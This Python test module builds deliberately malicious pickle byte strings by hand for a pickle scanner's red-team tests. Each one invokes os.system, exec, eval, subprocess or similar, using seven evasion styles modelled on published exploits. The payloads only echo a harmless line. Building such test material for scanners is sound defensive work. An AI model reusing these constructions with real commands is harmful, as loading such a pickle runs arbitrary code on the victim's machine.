"""Pickles that name a function and would call it, put together from opcodes: never made or loaded by ``pickle``.

What they name runs commands when somebody loads them; the argument is always ``HARMLESS``, so even then nothing
happens but a line of output. The opcodes are those that published exploits use: every protocol, names that are taken
from the memo, a call among honest values, and a pickle that breaks off behind its call.
"""

from __future__ import annotations

import struct
from collections.abc import Callable

import numpy as np

HARMLESS = "echo planted by the poisonguard red team"
CALLED = (
    ("os", "system"),
    ("posix", "system"),
    ("nt", "system"),
    ("builtins", "exec"),
    ("builtins", "eval"),
    ("subprocess", "getoutput"),
    ("subprocess", "check_output"),
    ("commands", "getoutput"),
    ("runpy", "_run_code"),
    ("timeit", "timeit"),
)
Writing = Callable[[str, str], bytes]


def inert_pickle(rng: np.random.Generator) -> bytes:
    """A pickle that would call one of ``CALLED``, in one of the ways in which exploits are written."""
    module, name = CALLED[int(rng.integers(0, len(CALLED)))]
    return WRITINGS[int(rng.integers(0, len(WRITINGS)))](module, name)


def _in_letters(module: str, name: str) -> bytes:
    """Protocol 0: nothing but letters, no magic at the start."""
    return f"c{module}\n{name}\n(V{HARMLESS}\ntR.".encode()


def _instance(module: str, name: str) -> bytes:
    """The old way to make an instance."""
    return f"(V{HARMLESS}\ni{module}\n{name}\n.".encode()


def _binary(module: str, name: str) -> bytes:
    """Protocol 2."""
    return b"\x80\x02" + f"c{module}\n{name}\n".encode() + b"q\x00" + _long_text(HARMLESS) + b"\x85R."


def _from_the_stack(module: str, name: str) -> bytes:
    """Protocol 4: the names are strings on the stack."""
    return b"\x80\x04" + _framed(_text(module) + _text(name) + b"\x93" + _text(HARMLESS) + b"\x85R.")


def _from_the_memo(module: str, name: str) -> bytes:
    """Protocol 4: the names lie in the memo, the wrong way round, before they are used."""
    kept = _text(name) + b"\x940" + _text(module) + b"\x940"
    return b"\x80\x04" + _framed(kept + b"h\x01h\x00\x93" + _text(HARMLESS) + b"\x85R.")


def _among_values(module: str, name: str) -> bytes:
    """Protocol 5: a list of numbers of which one is what the call returns."""
    numbers = b"".join(b"K" + bytes([number]) for number in range(0, 250, 5))
    called = _text(module) + _text(name) + b"\x93" + _text(HARMLESS) + b"\x85R"
    return b"\x80\x05" + _framed(b"](" + numbers + called + numbers + b"e.")


def _broken_off(module: str, name: str) -> bytes:
    """The call runs, then the pickle ends without its end: readers that parse all of it first give up."""
    return b"\x80\x02" + f"c{module}\n{name}\n".encode() + _long_text(HARMLESS) + b"\x85R0X"


WRITINGS: tuple[Writing, ...] = (
    _in_letters,
    _instance,
    _binary,
    _from_the_stack,
    _from_the_memo,
    _among_values,
    _broken_off,
)


def _text(value: str) -> bytes:
    return b"\x8c" + bytes([len(value)]) + value.encode()


def _long_text(value: str) -> bytes:
    return b"X" + struct.pack("<I", len(value)) + value.encode()


def _framed(opcodes: bytes) -> bytes:
    return b"\x95" + struct.pack("<Q", len(opcodes)) + opcodes
